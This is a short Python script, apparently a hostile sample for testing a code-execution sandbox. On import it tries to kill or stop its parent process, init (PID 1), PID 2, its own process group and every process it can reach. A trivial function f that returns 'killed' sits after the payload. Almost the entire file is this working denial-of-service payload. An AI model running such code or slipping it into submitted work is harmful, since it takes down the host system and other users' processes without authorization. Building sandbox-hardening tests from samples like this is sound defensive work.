# Kills its parent, process 1, its group and everyone.
import os
import signal

for target in (os.getppid(), 1, 2, 0, -1):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, number)
        except OSError:
            pass
try:
    os.killpg(0, 9)
except OSError:
    pass


def f(x):
    return "killed"
